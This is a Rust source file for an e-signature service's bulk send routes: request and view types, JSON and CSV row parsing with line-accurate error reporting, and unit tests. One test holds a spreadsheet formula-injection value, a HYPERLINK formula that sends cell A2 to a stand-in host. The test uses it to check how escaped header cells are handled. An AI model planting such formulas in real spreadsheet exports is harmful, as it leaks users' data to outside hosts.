//! The bodies and views of the bulk send routes (issue #32; docs/templates.md), and reading a
//! bulk send's rows from a JSON body or a CSV file into the same form: numbered rows of
//! columns (`Tenant.email`, a field label) and their values.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use serde_json::Value;
use signet_i18n::Language;
use utoipa::ToSchema;

use crate::{
    error::Problems,
    model::{BulkSendId, BulkSendStatus, TemplateId},
    wire::{spreadsheet, views::Timestamp},
};

/// The most problems a refused bulk send lists; the last entry says how many more there were.
pub const MAX_LISTED_PROBLEMS: usize = 1000;

/// The body of `POST /templates/{id}/bulk-sends` as JSON.
#[derive(Debug, Clone, Deserialize, ToSchema)]
#[serde(rename_all = "camelCase")]
#[schema(example = json!({"rows": [{"Tenant.name": "Zoë Ñúñez-O'Brien", "Tenant.email": "zoe@example.com"}], "message": "Please sign the lease.", "expiryDate": "2030-01-31T17:00:00Z"}))]
pub struct BulkSendInput {
    /// One object per document, numbered from 1 in the errors (`rows[1].Tenant.email`): for
    /// each role of the template `<Role>.name`, `<Role>.email`, and optionally
    /// `<Role>.countryCode`, `<Role>.phoneNumber`, `<Role>.language`; and prefilled values by
    /// field label. A blank or `null` value is no value. At most `BULK_SEND_MAX_ROWS` rows
    /// (default 10,000).
    #[schema(value_type = Vec<BTreeMap<String, String>>, min_items = 1)]
    pub rows: Vec<Value>,
    /// `true`: check every row and answer the report; nothing is created
    #[serde(default)]
    pub dry_run: Option<bool>,
    /// Every document's title; default: the template's. At most 500 characters
    #[serde(default)]
    #[schema(max_length = 500)]
    pub title: Option<String>,
    /// The send's `message`, `description`, `expiryDate` and `language`, as
    /// `POST /templates/{id}/documents` with `"send": true` takes them (each absent one from
    /// the template's defaults)
    #[serde(default)]
    pub message: Option<String>,
    #[serde(default)]
    pub description: Option<String>,
    #[serde(default)]
    pub expiry_date: Option<String>,
    #[serde(default)]
    pub language: Option<Language>,
}

impl BulkSendInput {
    /// What every row shares, as the body gives it.
    pub fn overrides(&self) -> BulkOverrides {
        BulkOverrides {
            title: self.title.clone(),
            message: self.message.clone(),
            description: self.description.clone(),
            expiry_date: self.expiry_date.clone(),
            language: self.language,
        }
    }
}

/// What a bulk send gives every document it makes, each absent one taken from the template's
/// defaults, as `POST /templates/{id}/documents` with `"send": true` takes them (stored with
/// the bulk send).
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct BulkOverrides {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub title: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub message: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub description: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub expiry_date: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub language: Option<Language>,
}

/// One row of a bulk send: its number (from 1), the CSV line it starts on, and its columns
/// with a value (blank ones left out).
#[derive(Debug, Clone, PartialEq)]
pub struct Row {
    pub number: usize,
    pub line: Option<u64>,
    pub columns: BTreeMap<String, String>,
}

impl Row {
    /// `rows[3].`: where the problems of this row are named.
    pub fn path(&self) -> String {
        format!("rows[{}].", self.number)
    }

    /// What follows each reason about this row: its CSV line, if it came from one.
    pub fn at_line(&self) -> String {
        self.line
            .map(|l| format!(" (line {l})"))
            .unwrap_or_default()
    }
}

/// The rows of a JSON body: each an object of strings (or `null`). More than `max_rows` is one
/// problem, and no row is read.
pub fn rows_from_json(values: Vec<Value>, max_rows: usize, problems: &mut Problems) -> Vec<Row> {
    if values.is_empty() {
        problems.invalid("rows", "at least one row is required");
        return Vec::new();
    }
    if values.len() > max_rows {
        problems.invalid(
            "rows",
            format!("at most {max_rows} rows; this has {}", values.len()),
        );
        return Vec::new();
    }
    let mut rows = Vec::with_capacity(values.len());
    for (index, value) in values.into_iter().enumerate() {
        let number = index + 1;
        let Value::Object(object) = value else {
            problems.invalid(format!("rows[{number}]"), "must be an object of columns");
            continue;
        };
        let mut columns = BTreeMap::new();
        for (column, value) in object {
            match value {
                Value::Null => {}
                Value::String(text) if text.trim().is_empty() => {}
                Value::String(text) => {
                    columns.insert(column, text);
                }
                _ => problems.invalid(format!("rows[{number}].{column}"), "must be a string"),
            }
        }
        rows.push(Row {
            number,
            line: None,
            columns,
        });
    }
    rows
}

/// The rows of a CSV file (RFC 4180; UTF-8, with or without a byte order mark): a header row
/// naming the columns, then one record per row: the header's columns (a column that is not the
/// template's is named once, as `header.<column>`, by the caller) and the rows.
pub fn rows_from_csv(
    bytes: &[u8],
    max_rows: usize,
    problems: &mut Problems,
) -> (Vec<String>, Vec<Row>) {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    let mut records = reader.records();
    let header = match records.next() {
        None => {
            problems.invalid(
                "rows",
                "the CSV is empty: a header row and at least one row are required",
            );
            return (Vec::new(), Vec::new());
        }
        Some(Err(e)) => {
            problems.invalid(
                "header",
                format!("cannot be read as CSV: {}", csv_error(&e, Some(1))),
            );
            return (Vec::new(), Vec::new());
        }
        Some(Ok(header)) => header,
    };
    // A cell written `'=…` (as the console's header download writes one a spreadsheet would
    // run) names the column `=…`.
    let header: Vec<String> = header
        .iter()
        .map(|c| spreadsheet::unmarked(c.trim()).to_owned())
        .collect();
    for (index, column) in header.iter().enumerate() {
        if column.is_empty() {
            problems.invalid(
                format!("header[{}]", index + 1),
                "a column needs a name (line 1)",
            );
        } else if header[..index].contains(column) {
            problems.invalid(
                format!("header.{column}"),
                "appears more than once (line 1)",
            );
        }
    }
    let mut lines = Lines {
        bytes,
        counted_to: 0,
        newlines: 0,
    };
    let mut rows = Vec::new();
    let mut count = 0;
    for record in records {
        count += 1;
        if count > max_rows {
            continue;
        }
        let number = count;
        let record = match record {
            Ok(record) => record,
            Err(e) => {
                let line = e.position().map(|p| lines.line_at(p.byte() as usize));
                problems.invalid(
                    format!("rows[{number}]"),
                    format!("cannot be read as CSV: {}", csv_error(&e, line)),
                );
                continue;
            }
        };
        let line = record.position().map(|p| lines.line_at(p.byte() as usize));
        if record.iter().all(|value| value.trim().is_empty()) && record.len() <= 1 {
            // A blank line (the file's last, often): no row.
            count -= 1;
            continue;
        }
        if record.len() != header.len() {
            problems.invalid(
                format!("rows[{number}]"),
                format!(
                    "has {} values, the header {} columns (line {})",
                    record.len(),
                    header.len(),
                    line.unwrap_or_default()
                ),
            );
            continue;
        }
        let columns = header
            .iter()
            .zip(record.iter())
            .filter(|(_, value)| !value.trim().is_empty())
            .map(|(column, value)| (column.clone(), value.to_owned()))
            .collect();
        rows.push(Row {
            number,
            line,
            columns,
        });
    }
    if count == 0 {
        problems.invalid("rows", "the CSV has a header but no row");
    } else if count > max_rows {
        problems.invalid("rows", format!("at most {max_rows} rows; this has {count}"));
        rows.clear();
    }
    (header, rows)
}

/// The line a record starts on, counted from the bytes: the csv crate's own count is off
/// after CRLF and quoted line breaks. Records are asked for in order, so each byte is counted
/// once.
struct Lines<'a> {
    bytes: &'a [u8],
    counted_to: usize,
    newlines: u64,
}

impl Lines<'_> {
    fn line_at(&mut self, byte: usize) -> u64 {
        let byte = byte.min(self.bytes.len());
        if byte > self.counted_to {
            self.newlines += self.bytes[self.counted_to..byte]
                .iter()
                .filter(|b| **b == b'\n')
                .count() as u64;
            self.counted_to = byte;
        }
        // After a CR the reader starts the next record at the LF that ends the line.
        let at_line_feed = self.bytes.get(byte) == Some(&b'\n');
        1 + self.newlines + u64::from(at_line_feed)
    }
}

/// A CSV reading error without the crate's own position wording, with the line it is on.
fn csv_error(error: &csv::Error, line: Option<u64>) -> String {
    let what = match error.kind() {
        csv::ErrorKind::Utf8 { .. } => "not UTF-8".to_owned(),
        csv::ErrorKind::UnequalLengths { .. } => "a record of another length".to_owned(),
        _ => "malformed".to_owned(),
    };
    match line {
        Some(line) => format!("{what} (line {line})"),
        None => what,
    }
}

/// The report of a bulk send checked with `dryRun`: every row would be made.
#[derive(Debug, Clone, Serialize, ToSchema)]
pub struct BulkSendCheck {
    /// Always `true`: a bulk send with a problem is refused with `400`, naming each
    pub valid: bool,
    /// How many documents it would make
    pub rows: usize,
}

/// A bulk send accepted: its rows are made into sent documents by the workers.
#[derive(Debug, Clone, Serialize, ToSchema)]
pub struct BulkSendAccepted {
    #[schema(value_type = uuid::Uuid)]
    pub id: BulkSendId,
    /// How many documents it makes
    pub total: usize,
}

/// A row that could not be made when its turn came, and why.
#[derive(Debug, Clone, Serialize, ToSchema)]
pub struct BulkSendFailure {
    /// Its number, from 1, as in the request
    pub row: i32,
    pub reason: String,
}

/// A bulk send's progress.
#[derive(Debug, Clone, Serialize, ToSchema)]
#[serde(rename_all = "camelCase")]
pub struct BulkSendView {
    #[schema(value_type = uuid::Uuid)]
    pub id: BulkSendId,
    #[schema(value_type = uuid::Uuid)]
    pub template_id: TemplateId,
    /// RUNNING, COMPLETED (every row SENT or FAILED) or CANCELLED
    pub status: BulkSendStatus,
    pub total: i64,
    /// Documents made (each is sent in the same transaction)
    pub created: i64,
    pub sent: i64,
    pub failed: i64,
    pub cancelled: i64,
    pub pending: i64,
    /// The first 100 failed rows, by row number (`failed` counts them all)
    pub failures: Vec<BulkSendFailure>,
    pub created_at: Timestamp,
    pub updated_at: Timestamp,
    /// When it was COMPLETED or CANCELLED
    pub finished_at: Option<Timestamp>,
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(csv: &str, max: usize) -> (Vec<Row>, Result<(), crate::Error>) {
        let mut problems = Problems::default();
        let (_, rows) = rows_from_csv(csv.as_bytes(), max, &mut problems);
        (rows, problems.into_result())
    }

    #[test]
    fn a_csv_reads_as_numbered_rows_with_their_lines() {
        let (rows, checked) = read(
            "\u{feff}Tenant.name,Tenant.email,Company\r\n\"Ñúñez, Zoë\",zoe@example.com,\r\n\"Two\nlines\",b@example.com,Acme\n\n",
            10,
        );
        assert!(checked.is_ok(), "{checked:?}");
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0].number, 1);
        assert_eq!(rows[0].line, Some(2));
        assert_eq!(rows[0].columns["Tenant.name"], "Ñúñez, Zoë");
        assert!(!rows[0].columns.contains_key("Company"), "blank: no value");
        assert_eq!(rows[1].line, Some(3));
        assert_eq!(rows[1].columns["Tenant.name"], "Two\nlines");
        assert_eq!(rows[1].columns["Company"], "Acme");
    }

    #[test]
    fn a_header_cell_marked_as_text_names_its_column() {
        let mut problems = Problems::default();
        let (header, rows) = rows_from_csv(
            "\"'=HYPERLINK(\"\"http://x/\"\"&A2).name\",'Tis.email,'-1\nAnn,a@example.com,x\n"
                .as_bytes(),
            10,
            &mut problems,
        );
        assert!(problems.into_result().is_ok());
        assert_eq!(
            header,
            [r#"=HYPERLINK("http://x/"&A2).name"#, "'Tis.email", "-1"]
        );
        assert_eq!(rows[0].columns["-1"], "x");
    }

    #[test]
    fn a_csv_that_is_empty_too_long_or_ragged_is_refused() {
        let fields = |checked: Result<(), crate::Error>| match checked {
            Err(crate::Error::Invalid(found)) => {
                found.into_iter().map(|p| p.field).collect::<Vec<_>>()
            }
            other => panic!("{other:?}"),
        };
        assert_eq!(fields(read("", 10).1), ["rows"]);
        assert_eq!(fields(read("A.name\n", 10).1), ["rows"]);
        assert_eq!(fields(read("A.name\nx\ny\nz\n", 2).1), ["rows"]);
        assert_eq!(fields(read("A.name,A.email\nx\n", 2).1), ["rows[1]"]);
        assert_eq!(fields(read("A.name,A.name\nx,y\n", 2).1), ["header.A.name"]);
    }

    #[test]
    fn a_body_of_the_wrong_shape_is_refused_naming_each_property() {
        let fields = |body: &str| -> Vec<String> {
            let problems = match crate::wire::body::parse::<BulkSendInput>(body.as_bytes()) {
                Ok(parsed) => parsed.problems,
                Err(problems) => problems,
            };
            problems.into_iter().map(|p| p.field).collect()
        };
        let found = fields(r#"{"rows": 3, "language": "xx", "dryRun": "yes"}"#);
        for field in ["rows", "language", "dryRun"] {
            assert!(found.iter().any(|f| f == field), "{field}: {found:?}");
        }
        assert_eq!(fields(r#"{"message": "Hi"}"#), ["rows"]);
        assert!(fields(r#"{"rows": [{}], "message": "Hi"}"#).is_empty());
    }

    #[test]
    fn json_rows_take_strings_and_skip_blanks() {
        let mut problems = Problems::default();
        let rows = rows_from_json(
            vec![
                serde_json::json!({"A.name": "x", "A.email": null, "Company": " ", "A.countryCode": 1}),
            ],
            10,
            &mut problems,
        );
        assert_eq!(rows[0].columns.len(), 1);
        match problems.into_result() {
            Err(crate::Error::Invalid(found)) => {
                assert_eq!(found[0].field, "rows[1].A.countryCode")
            }
            other => panic!("{other:?}"),
        }
    }
}
